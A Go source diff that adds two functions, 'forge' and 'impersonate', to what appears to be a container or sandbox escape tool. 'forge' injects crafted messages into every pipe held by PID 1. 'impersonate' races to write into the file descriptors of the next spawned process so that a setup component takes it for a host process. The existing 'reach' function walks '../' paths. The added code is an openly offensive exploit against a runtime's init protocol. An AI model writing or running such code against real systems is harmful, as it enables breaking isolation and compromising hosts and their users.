@@ -1,6 +1,7 @@
 package main
 
 import (
+	"encoding/binary"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -103,6 +104,59 @@ func reach(dir string) {
 			}
 		}
 		up += "../"
+	}
+}
+
+// forge writes into every pipe the init has open what might be a message of the
+// init's to set-up, of any kind but failures.
+func forge([]string) error {
+	pipes, _ := filepath.Glob("/proc/1/fd/*")
+	for _, file := range pipes {
+		if target, _ := os.Readlink(file); !strings.HasPrefix(target, "pipe:") {
+			continue
+		}
+		f, err := os.OpenFile(file, os.O_WRONLY|unix.O_NONBLOCK, 0)
+		if err != nil {
+			continue
+		}
+		fmt.Println("forged", file)
+		for kind := range uint32(40) {
+			message := binary.NativeEndian.AppendUint32([]byte{0, 0, 0, 0}, 2+kind/2)
+			f.Write(binary.NativeEndian.AppendUint64(message, 1))
+		}
+		f.Close()
+	}
+	return nil
+}
+
+// impersonate waits for the next process of the pid namespace and tells set-up,
+// in its launcher's name, that it is another of the host's: PID-OUTSIDE.
+func impersonate(args []string) error {
+	pid, err := strconv.ParseUint(args[0], 10, 64)
+	if err != nil {
+		return err
+	}
+	message := binary.NativeEndian.AppendUint64([]byte{0, 0, 0, 0, 8, 0, 0, 0}, pid)
+	for {
+		last, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
+		if err != nil {
+			return err
+		}
+		n, _ := strconv.Atoi(strings.TrimSpace(string(last)))
+		dir := "/proc/" + strconv.Itoa(n+1) + "/fd/"
+		for range 2000 {
+			for fd := 8; fd < 13; fd++ {
+				file, err := unix.Open(dir+strconv.Itoa(fd), unix.O_WRONLY|unix.O_NONBLOCK, 0)
+				if err == unix.ENOENT {
+					break
+				}
+				if err == nil {
+					unix.Write(file, message)
+					unix.Close(file)
+					fmt.Println("told", dir, fd)
+				}
+			}
+		}
 	}
 }
 
